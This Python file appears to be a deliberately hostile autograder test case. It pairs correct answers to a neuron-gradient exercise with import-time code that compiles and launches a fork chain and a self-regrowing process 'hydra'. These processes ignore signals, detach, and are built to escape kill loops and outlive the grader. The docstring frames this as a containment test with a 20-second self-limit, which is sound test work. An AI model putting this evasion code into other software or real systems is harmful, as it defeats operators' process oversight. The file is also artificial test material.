"""BPGRADE-HOSTILE submission for exercise01 (attack: fork_chain).

Every function is CORRECT (the reference solution), but while it is imported the file starts
processes that no kill loop can catch, written in C at run time into $TMPDIR and compiled with
the system's gcc (or cc); where there is no compiler they run in Python (and the chain in perl
before that). Each starts detached, in a new session, ignoring SIGTERM, SIGHUP, SIGINT and
SIGPIPE and keeping the descriptors it inherited:

- a chain where each member forks one child and exits, every 2 ms: its only process changes
  its pid 500 times a second and has no parent left to die with;
- a hydra: up to 16 processes in a tree, each keeping up to two children and woken when its
  parent dies (PR_SET_PDEATHSIG) or a child does, forking new heads at once while the hydra
  has fewer than 16 living ones (a shared page lists its members). A loop that
  kills the processes it finds re-parented to it, one look at a time, only ever sees the top
  of the tree; the heads below have grown new ones before the next look.

A grader that kills the child, its process group and whatever it finds re-parented to it
misses them; they run on after the exercise, after the grader, re-parented to PID 1. The
grader must end them with their exercise (a PID namespace, a cgroup killed whole, or a uid of
its own swept until nothing is left) and give full marks: 10 of 10.

Safe to run by mistake: every process stops by itself 20 s after it was started (an absolute
deadline on the wall clock, passed down), and there are about 20 of them at most (the chain's
one, the hydra's 16, a starter); nothing is deleted; every attempt is wrapped, so the
file always imports.
"""

import contextlib
import math
import os
import shutil
import subprocess
import sys
import tempfile
import time

LINGER_SECONDS = 20
PAUSE_MICROSECONDS = 2000

CHAIN_C = r"""
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/prctl.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#define SLOTS 64
#define HEADS 16

static void chain(time_t until, useconds_t pause) {
    while (time(NULL) < until) {
        usleep(pause);
        if (fork() > 0) _exit(0);  /* the member exits; its child carries on */
    }
}

static pid_t *heads;  /* shared by the whole hydra: the pids of its members */

static int living(pid_t pid) {  /* not gone, and not a zombie waiting to be reaped */
    char path[64], text[512];
    if (pid <= 0) return 0;
    snprintf(path, sizeof path, "/proc/%d/stat", (int)pid);
    FILE *file = fopen(path, "r");
    if (file == NULL) return kill(pid, 0) == 0;
    size_t size = fread(text, 1, sizeof text - 1, file);
    fclose(file);
    text[size] = 0;
    char *end = strrchr(text, ')');
    return end != NULL && end[1] == ' ' && end[2] != 'Z' && end[2] != 'X';
}

static int alive(void) {
    int count = 0;
    for (int i = 0; i < SLOTS; i++)
        if (living(heads[i])) count++;
    return count;
}

static void enroll(void) {
    for (int i = 0; i < SLOTS; i++)
        if (!living(heads[i])) {
            heads[i] = getpid();
            return;
        }
}

static void hydra(time_t until) {
    sigset_t events;
    struct timespec tick = {0, 100000000};
    int children = 0;
    heads = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
    if (heads == MAP_FAILED) return;
    sigemptyset(&events);
    sigaddset(&events, SIGUSR1);
    sigaddset(&events, SIGCHLD);
    sigprocmask(SIG_BLOCK, &events, NULL);
    enroll();
    while (time(NULL) < until) {
        /* up to two children each, while the hydra has fewer than HEADS members */
        while (children < 2 && alive() < HEADS) {
            pid_t child = fork();
            if (child < 0) break;
            if (child == 0) {  /* a new head: it wakes when its parent dies */
                prctl(PR_SET_PDEATHSIG, SIGUSR1);
                enroll();
                children = 0;
                continue;
            }
            children++;
        }
        sigtimedwait(&events, NULL, &tick);  /* a parent or a child died, or a tick */
        while (waitpid(-1, NULL, WNOHANG) > 0) children--;
    }
}

int main(int argc, char **argv) {
    time_t until = argc > 1 ? (time_t)atoll(argv[1]) : time(NULL) + 20;
    useconds_t pause = argc > 2 ? (useconds_t)atol(argv[2]) : 2000;
    int paired = argc > 3 && strcmp(argv[3], "hydra") == 0;
    signal(SIGTERM, SIG_IGN);
    signal(SIGHUP, SIG_IGN);
    signal(SIGINT, SIG_IGN);
    signal(SIGPIPE, SIG_IGN);
    if (fork() > 0) _exit(0);  /* detached from whoever started it */
    setsid();
    if (paired) hydra(until);
    else chain(until, pause);
    _exit(0);
}
"""

CHAIN_PERL = (
    "use POSIX (); $SIG{$_} = 'IGNORE' for qw(TERM HUP INT PIPE); my $until = $ARGV[0];"
    "POSIX::_exit(0) if fork(); POSIX::setsid();"
    "while (time() < $until) { select(undef, undef, undef, $ARGV[1] / 1e6);"
    " my $pid = fork(); POSIX::_exit(0) if defined $pid && $pid > 0; }"
    "POSIX::_exit(0);"
)

CHAIN_PYTHON = """
import ctypes, mmap, os, signal, struct, sys, time
for number in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT, signal.SIGPIPE):
    signal.signal(number, signal.SIG_IGN)
until, pause = float(sys.argv[1]), float(sys.argv[2]) / 1e6
if os.fork() > 0:
    os._exit(0)
os.setsid()
if sys.argv[3:] == ["hydra"]:
    heads = mmap.mmap(-1, 8 * 64, flags=mmap.MAP_SHARED)
    def living(pid):
        try:
            with open(f"/proc/{pid}/stat", "rb") as file:
                return file.read().rsplit(b")", 1)[1][1:2] not in (b"Z", b"X")
        except (OSError, IndexError):
            return False
    def alive():
        return sum(living(struct.unpack_from("q", heads, 8 * i)[0]) for i in range(64))
    def enroll():
        for i in range(64):
            if not living(struct.unpack_from("q", heads, 8 * i)[0]):
                struct.pack_into("q", heads, 8 * i, os.getpid())
                return
    events = {signal.SIGUSR1, signal.SIGCHLD}
    signal.pthread_sigmask(signal.SIG_BLOCK, events)
    enroll()
    children = 0
    while time.time() < until:
        while children < 2 and alive() < 16:
            try:
                child = os.fork()
            except OSError:
                break
            if child == 0:
                ctypes.CDLL(None).prctl(1, int(signal.SIGUSR1), 0, 0, 0)
                enroll()
                children = 0
                continue
            children += 1
        signal.sigtimedwait(events, 0.1)
        try:
            while os.waitpid(-1, os.WNOHANG)[0] > 0:
                children -= 1
        except ChildProcessError:
            children = 0
while time.time() < until:
    time.sleep(pause)
    try:
        if os.fork() > 0:
            os._exit(0)
    except OSError:
        pass
os._exit(0)
"""


def _compiled() -> str | None:
    compiler = shutil.which("gcc") or shutil.which("cc")
    if compiler is None:
        return None
    folder = tempfile.mkdtemp(prefix="chain-")
    source = os.path.join(folder, "chain.c")
    binary = os.path.join(folder, "chain")
    with open(source, "w") as file:
        file.write(CHAIN_C)
    done = subprocess.run(
        [compiler, "-O2", "-o", binary, source],
        stdin=subprocess.DEVNULL,
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
        timeout=5,
        check=False,
    )
    return binary if done.returncode == 0 and os.access(binary, os.X_OK) else None


def _commands(until: int) -> list[list[list[str]]]:
    """For the hydra and for the chain, the ways to start it, the best first."""
    args = [str(until), str(PAUSE_MICROSECONDS)]
    binary = None
    with contextlib.suppress(Exception):
        binary = _compiled()
    perl = shutil.which("perl")
    chain, hydra = [], []
    if binary is not None:
        chain.append([binary, *args, "chain"])
        hydra.append([binary, *args, "hydra"])
    if perl is not None:
        chain.append([perl, "-e", CHAIN_PERL, *args])
    chain.append([sys.executable, "-I", "-S", "-c", CHAIN_PYTHON, *args, "chain"])
    hydra.append([sys.executable, "-I", "-S", "-c", CHAIN_PYTHON, *args, "hydra"])
    return [hydra, chain]  # the hydra first: it needs the most processes


def _start(commands: list[list[str]]) -> str:
    for command in commands:
        try:
            starter = subprocess.Popen(
                command,
                stdin=subprocess.DEVNULL,
                close_fds=False,  # they hold every pipe the child holds
                start_new_session=True,
            )
            if starter.wait(timeout=5) == 0:
                return f"{os.path.basename(command[0])} {command[-1]}"
        except (OSError, ValueError, subprocess.SubprocessError):
            continue
    return "nothing"


def _start_all() -> list[str]:
    until = int(time.time()) + LINGER_SECONDS
    return [_start(commands) for commands in _commands(until)]


with contextlib.suppress(Exception):
    print("fork_chain: started", _start_all())


def sigmoid(z: float) -> float:
    if z >= 0:
        return 1.0 / (1.0 + math.exp(-z))
    e = math.exp(z)
    return e / (1.0 + e)


def neuron_loss(w: float, b: float, x: float, y: float) -> float:
    a = sigmoid(w * x + b)
    return float((a - y) ** 2)


def local_derivatives(w: float, b: float, x: float, y: float) -> tuple[float, float, float]:
    a = sigmoid(w * x + b)
    return float(2.0 * (a - y)), float(a * (1.0 - a)), float(x)


def neuron_gradients(w: float, b: float, x: float, y: float) -> tuple[float, float]:
    dL_da, da_dz, dz_dw = local_derivatives(w, b, x, y)
    upstream = dL_da * da_dz
    return float(upstream * dz_dw), float(upstream)


def descent_step(w: float, b: float, x: float, y: float, lr: float) -> tuple[float, float]:
    dL_dw, dL_db = neuron_gradients(w, b, x, y)
    return float(w - lr * dL_dw), float(b - lr * dL_db)
